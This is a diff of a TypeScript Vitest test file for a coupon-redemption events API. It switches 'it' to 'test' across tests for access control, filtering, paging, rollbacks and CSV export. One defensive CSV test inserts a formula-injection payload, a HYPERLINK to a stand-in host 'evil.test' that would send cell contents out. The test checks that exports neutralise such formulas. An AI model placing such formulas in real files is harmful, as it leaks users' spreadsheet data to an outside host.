@@ -2,7 +2,7 @@ import { randomUUID } from 'node:crypto';
 import { parse } from 'csv-parse/sync';
 import { sql } from 'kysely';
 import pg from 'pg';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { selectModules } from '../src/modules/index.ts';
 import { startTestApp, type TestApp, type TestUser } from './support/app.ts';
 import { command, insertBook, type TestBook } from './support/nodes.ts';
@@ -62,7 +62,7 @@ const insertEvents = (db: { bookId: string; count: number; data?: string }) => s
   FROM generate_series(1, ${db.count})`;
 
 describe('GET /events', () => {
-  it('tells what happened, newest first, with names for the ids', async () => {
+  test('tells what happened, newest first, with names for the ids', async () => {
     const book = await insertBook(t.db, 1);
     await spend(book, 1);
     const { items, nextCursor } = await list(`/api/v1/events?bookId=${book.id}`);
@@ -81,14 +81,14 @@ describe('GET /events', () => {
     });
   });
 
-  it('is for administrators', async () => {
+  test('is for administrators', async () => {
     for (const url of ['/api/v1/events', '/api/v1/redemptions']) {
       expect((await get(url, {}, user)).status).toBe(403);
       expect((await t.app.inject({ url })).statusCode).toBe(401);
     }
   });
 
-  it('filters by user, actor, type, code and time, and by all of them at once', async () => {
+  test('filters by user, actor, type, code and time, and by all of them at once', async () => {
     const book = await insertBook(t.db, 3);
     const other = await t.asUser();
     const [first, second, third] = book.codes as [string, string, string];
@@ -130,7 +130,7 @@ describe('GET /events', () => {
     ).toEqual([[second, assigned]]);
   });
 
-  it('finds a code also where its beginning is that of more coupons than can be looked up one by one', async () => {
+  test('finds a code also where its beginning is that of more coupons than can be looked up one by one', async () => {
     const book = await insertBook(t.db, 5_001);
     await spend(book, 2);
     const beginning = book.codes[0]!.replace(/-\d+$/, '-');
@@ -138,7 +138,7 @@ describe('GET /events', () => {
     expect((await list(`/api/v1/redemptions?code=${beginning}`)).items).toHaveLength(2);
   });
 
-  it.each([
+  test.each([
     'type=coupon.lost',
     'from=yesterday',
     'from=2026-02-30T00:00:00Z',
@@ -159,7 +159,7 @@ describe('GET /events', () => {
 });
 
 describe('turning the pages', () => {
-  it('shows each event of the first moment once while others are added all the time', async () => {
+  test('shows each event of the first moment once while others are added all the time', async () => {
     const { id: bookId } = await insertBook(t.db, 0);
     await insertEvents({ bookId, count: 100 }).execute(t.db);
     const before = await walk(`/api/v1/events?bookId=${bookId}&limit=200`);
@@ -169,7 +169,7 @@ describe('turning the pages', () => {
     expect(rows.map(({ id }) => id)).toEqual(before.map(({ id }) => id));
   });
 
-  it('is not confused by a transaction that commits late, with lower ids and an earlier time', async () => {
+  test('is not confused by a transaction that commits late, with lower ids and an earlier time', async () => {
     const { id: bookId } = await insertBook(t.db, 0);
     const late = new pg.Client(t.databaseUrl);
     await late.connect();
@@ -191,7 +191,7 @@ describe('turning the pages', () => {
     expect(await walk(`/api/v1/events?bookId=${bookId}&limit=4`)).toHaveLength(30);
   });
 
-  it('is the same for redemptions', async () => {
+  test('is the same for redemptions', async () => {
     const book = await insertBook(t.db, 12);
     await spend(book, 6);
     let next = 6;
@@ -208,7 +208,7 @@ describe('turning the pages', () => {
 });
 
 describe('a rollback', () => {
-  it('is a row of its own that names what it takes back, and is named by it', async () => {
+  test('is a row of its own that names what it takes back, and is named by it', async () => {
     const book = await insertBook(t.db, 1);
     await spend(book, 1);
     const url = `/api/v1/redemptions?bookId=${book.id}`;
@@ -231,7 +231,7 @@ describe('a rollback', () => {
 describe('as CSV', () => {
   const csv = { accept: 'text/csv' };
 
-  it('is the whole filter as a file, a line per row, with names for columns', async () => {
+  test('is the whole filter as a file, a line per row, with names for columns', async () => {
     const book = await insertBook(t.db, 3);
     await spend(book, 3);
     const answer = await get(`/api/v1/redemptions?bookId=${book.id}&limit=1`, csv);
@@ -248,7 +248,7 @@ describe('as CSV', () => {
     expect((await get(`/api/v1/events?bookId=${book.id}`, csv)).text.split('\r\n')).toHaveLength(9 + 2);
   });
 
-  it('begins with a byte order mark when that is asked for', async () => {
+  test('begins with a byte order mark when that is asked for', async () => {
     const { id } = await insertBook(t.db, 0);
     for (const list of ['events', 'redemptions']) {
       expect((await get(`/api/v1/${list}?bookId=${id}`, csv)).text.codePointAt(0)).not.toBe(0xfeff);
@@ -256,7 +256,7 @@ describe('as CSV', () => {
     }
   });
 
-  it('has no cell that a spreadsheet would run', async () => {
+  test('has no cell that a spreadsheet would run', async () => {
     const book = await insertBook(t.db, 1);
     await sql`UPDATE books SET name = '=HYPERLINK("http://evil.test?"&A1)' WHERE id = ${book.id}`.execute(
       t.db,
@@ -277,7 +277,7 @@ describe('as CSV', () => {
     }
   });
 
-  it('reads part by part: more rows than one part, each once, while others are added', async () => {
+  test('reads part by part: more rows than one part, each once, while others are added', async () => {
     const { id: bookId } = await insertBook(t.db, 0);
     await insertEvents({ bookId, count: 2_500, data: '{"n": 1}' }).execute(t.db);
     const [answer] = await Promise.all([
@@ -294,7 +294,7 @@ describe('as CSV', () => {
 });
 
 describe('the beginning of very many codes', () => {
-  it('is refused, with what to do, when it cannot be searched in time, also as a file', async () => {
+  test('is refused, with what to do, when it cannot be searched in time, also as a file', async () => {
     const hurried = await startTestApp({
       databaseUrl: t.databaseUrl,
       modules: selectModules(['coupons', 'history']),
